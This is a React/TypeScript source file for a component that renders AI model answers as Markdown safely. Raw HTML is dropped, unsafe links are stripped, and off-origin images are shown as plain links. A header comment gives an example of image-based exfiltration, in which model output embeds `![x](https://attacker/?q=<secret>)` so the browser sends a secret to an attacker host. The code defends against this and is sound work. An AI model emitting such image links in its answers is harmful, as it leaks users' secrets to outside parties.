// Markdown for answers and files. Raw HTML is dropped (skipHtml) and react-markdown's default URL transform
// strips javascript: and other unsafe links, so model output cannot inject markup or script. GFM adds tables
// (optimization reports, model answers), strikethrough and task lists.
//
// Images are a leak: `![x](https://attacker/?q=<secret>)` in a model answer would make the browser fetch that
// URL the moment the answer renders. So only same-origin, data:image and blob: images are shown; any other
// image becomes a plain link (its text and URL) the user may choose to open. The CSP's img-src says the same.
import type { ComponentProps } from "react";
import ReactMarkdown, { defaultUrlTransform, type UrlTransform } from "react-markdown";
import remarkGfm from "remark-gfm";
import { CodeBlock } from "./CodeBlock";

const INLINE_IMAGE = /^(data:image\/|blob:)/i;

/** Whether an image URL may load without asking: same origin as the page, a data:image or a blob: URL. */
export function isLocalImage(src: string, base: string = window.location.href): boolean {
  if (INLINE_IMAGE.test(src)) return true;
  try {
    return new URL(src, base).origin === new URL(base).origin;
  } catch {
    return false;
  }
}

const urlTransform: UrlTransform = (url, key, node) =>
  key === "src" && node.tagName === "img" && INLINE_IMAGE.test(url) ? url : defaultUrlTransform(url);

function SafeImage({ src, alt, title }: ComponentProps<"img">) {
  const url = typeof src === "string" ? src : "";
  if (url && isLocalImage(url)) return <img src={url} alt={alt ?? ""} title={title} />;
  return (
    <a className="remote-image" href={url || undefined} target="_blank" rel="noopener noreferrer nofollow" data-testid="remote-image" title="remote image, not loaded">
      {alt || "image"} ({url || "no address"})
    </a>
  );
}

export function Markdown({ text }: { text: string }) {
  return (
    <div className="markdown">
      <ReactMarkdown
        skipHtml
        remarkPlugins={[remarkGfm]}
        urlTransform={urlTransform}
        components={{
          code({ className, children }) {
            const match = /language-(\w+)/.exec(className ?? "");
            const body = String(children);
            if (match || body.includes("\n")) return <CodeBlock code={body} language={match?.[1] ?? "text"} />;
            return <code>{children}</code>;
          },
          pre({ children }) {
            return <>{children}</>;
          },
          img({ src, alt, title }) {
            return <SafeImage src={src} alt={alt} title={title} />;
          },
        }}
      >
        {text}
      </ReactMarkdown>
    </div>
  );
}
